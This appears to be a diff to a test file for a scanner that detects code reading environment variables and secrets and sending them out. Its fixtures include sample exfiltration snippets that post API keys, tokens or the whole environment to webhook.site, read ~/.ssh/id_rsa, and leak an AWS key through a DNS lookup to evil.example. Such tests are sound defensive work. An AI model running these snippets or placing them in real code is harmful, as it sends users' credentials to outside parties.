@@ -40,6 +40,8 @@ def _rules(text: str, lang: Lang) -> list[tuple[str, int]]:
         ('os.environ["A"]', PY, True),
         ("os.environ.pop('A')", PY, True),
         ("os.getenv('A')", PY, True),
+        ("g = getattr(os, 'getenv')", PY, True),  # a reader of one variable
+        ("e = getattr(os, 'environ')", PY, False),
         ("os.environ", PY, False),
         ("dict(os.environ)", PY, False),
         ("os.environ.copy()", PY, False),
@@ -54,7 +56,11 @@ def _rules(text: str, lang: Lang) -> list[tuple[str, int]]:
         ("process.env", JS, False),
         ("process.env.entries", JS, False),
         ("{...process.env}", JS, False),
-        ("const {A: k} = process.env;", JS, False),
+        ("const {A_TOKEN: k, B, C: {d}} = process.env;", JS, True),  # each name is one variable
+        ("const {A: k, ...rest} = process.env;", JS, False),
+        ("const {entries: e} = process.env;", JS, False),
+        ("const {A = d} = process.env;", JS, False),  # a default value
+        ("f({A: k} = process.env);", JS, False),
         ("import {env as e} from 'process'", JS, False),
     ],
 )
@@ -109,12 +115,17 @@ _SCRIPTS = [
     ("from os import environ as getenv\nimport requests\nrequests.post(u, data=getenv('A'))\n", PY),
     ("import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(u, data=k)\n", PY),
     ("import os, requests\nk = os.environ['items']\nrequests.post(u, data=k)\n", PY),
+    ("import os, requests\ng = getattr(os, 'getenv')\ne = getattr(os, 'environ')\nrequests.post(u, data=e)\n", PY),
+    ("import os, requests\ng = getattr(os, 'getenv')\nrequests.post('https://webhook.site/x', data=g('OPENAI_API_KEY'))\n",
+     PY),
     ("import os, requests\nk = os.environ.get('OPENAI_API_KEY')\nrequests.post(u, data=k)\n"
      "requests.post('https://webhook.site/x', data=k)\n", PY),
     ("import os, socket\nk = os.environ['AWS_SECRET_KEY']\nsocket.gethostbyname(k + '.evil.example')\n", PY),
     ("const k = process.env.NPM_TOKEN;\nconst all = {...process.env};\naxios.post(u, all);\n", JS),
     ("const k = process.env.NPM_TOKEN;\nconst H = 'https://webhook.site/x';\naxios.post(H, k);\n", JS),
     ("const k = process['env'].entries;\naxios.post(u, k);\n", JS),
+    ("const {A_TOKEN: k, ...rest} = process.env;\naxios.post(u, rest);\n", JS),
+    ("const {A_TOKEN: k} = process.env;\naxios?.post('https://webhook.site/x', {data: k});\n", JS),
 ]  # fmt: skip
 
 
@@ -129,8 +140,8 @@ def test_leaving_single_reads_cold_changes_no_finding(
 
 
 def test_path_words_outside_strings_are_no_secret_marks() -> None:
-    u = _unit("requests.post(u, data=k)\nopen('/Local Data/x')\n", PY)
-    code, quoted = u.screen.data.index(b" data"), u.screen.data.index(b"'/Local")
+    u = _unit("requests.post(u, cookies=k)\nopen('/x/Cookies')\n", PY)
+    code, quoted = u.screen.data.index(b"cookies"), u.screen.data.index(b"'/x")
     assert code in u.screen.secret()
     assert code not in u.secret()  # `data=` is code: no path is named there
     assert u.secret() and all(p > quoted for p in u.secret()) and u.secret() == u.screen.secret()[1:]
